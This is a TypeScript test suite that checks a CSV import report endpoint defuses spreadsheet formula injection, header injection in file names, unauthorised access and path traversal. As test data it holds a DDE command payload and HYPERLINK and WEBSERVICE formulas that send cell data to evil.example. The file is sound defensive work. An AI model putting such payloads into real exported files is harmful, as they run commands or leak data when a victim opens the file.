import { bearer } from '@relance/sdk/client.ts';
import { csvOf, grantLine } from '../import/faults/hostile.ts';
import { type Attacked, type Heard, startAttacked, stillAnswers } from './attacked.ts';

let attacked: Attacked;

beforeAll(async () => {
  attacked = await startAttacked();
});
afterAll(() => attacked.close());

/** What the report of a file says, to an agent of the Department unless another token is given. */
async function reportOf(file: string, amount: string): Promise<Heard> {
  const headers = { ...bearer(await attacked.token('partner:department')) };
  const { json } = await attacked.request(
    `/owners/department/imports?file=${encodeURIComponent(file)}`,
    { method: 'POST', headers, body: new Uint8Array(csvOf(grantLine({ amount }))) },
  );
  const { run } = json as unknown as { run: string };
  return attacked.request(`/owners/department/imports/${run}/report.csv`, { headers });
}

describe('a report that a spreadsheet opens', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    [
      '=HYPERLINK("http://evil.example?"&A1;"clic")',
      `"'=HYPERLINK(""http://evil.example?""&A1;""clic"")"`,
    ],
    ['=WEBSERVICE("http://evil.example")', `"'=WEBSERVICE(""http://evil.example"")"`],
  ])('runs nothing: the cell %s is defused', async (cell, shown) => {
    const { text } = await reportOf('subventions.csv', cell);

    expect(text).toContain(`;montant;${shown};`);
  });

  it.each(['=2+2.csv', '@nom.csv', '+nom.csv'])('runs no file name either: %s', async (file) => {
    const { text } = await reportOf(file, 'beaucoup');

    expect(text.split('\r\n')[1]?.startsWith(`'${file};`)).toBe(true);
  });

  it('keeps a cell with quotes, delimiters and line breaks one cell', async () => {
    const { text } = await reportOf('subventions.csv', '1";"=1+1\n=2');

    expect(text).toContain(';montant;"1"";""=1+1\n=2";');
  });

  it('is a file to save, whose name no sender chooses', async () => {
    const { headers } = await reportOf('"; filename=evil.html\r\nx: y', 'beaucoup');

    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="import-[0-9a-f-]{36}\.csv"$/,
    );
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  });

  it.each([
    ['the public', undefined, 401],
    ['another partner', 'partner:tourism', 403],
    ['the committee', 'committee', 403],
    ['an analyst', 'analyst', 403],
  ] as const)('is not for %s', async (_who, scope, status) => {
    const mine = { ...bearer(await attacked.token('partner:department')) };
    const { json } = await attacked.request('/owners/department/imports?file=secret.csv', {
      method: 'POST',
      headers: mine,
      body: new Uint8Array(csvOf(grantLine({ amount: 'secret' }))),
    });
    const { run } = json as unknown as { run: string };

    const heard = await attacked.request(`/owners/department/imports/${run}/report.csv`, {
      headers: { ...(scope ? bearer(await attacked.token(scope)) : {}) },
    });

    expect(heard.status).toBe(status);
    expect(heard.text).not.toContain('secret');
  });

  it('of another owner is not there under one’s own', async () => {
    const mine = { ...bearer(await attacked.token('partner:department')) };
    const { json } = await attacked.request('/owners/department/imports?file=secret2.csv', {
      method: 'POST',
      headers: mine,
      body: new Uint8Array(csvOf(grantLine({ amount: 'secret' }))),
    });
    const { run } = json as unknown as { run: string };

    const heard = await attacked.request(`/owners/tourism/imports/${run}/report.csv`, {
      headers: { ...bearer(await attacked.token('partner:tourism')) },
    });

    expect(heard.status).toBe(404);
  });

  it.each(['..', '%2e%2e%2f%2e%2e', "x'%20OR%201=1", '__proto__'])(
    'is not found under the run %s',
    async (run) => {
      const heard = await attacked.request(`/owners/department/imports/${run}/report.csv`, {
        headers: { ...bearer(await attacked.token('partner:department')) },
      });

      expect(heard.status).toBe(404);
    },
  );

  stillAnswers(() => attacked);
});
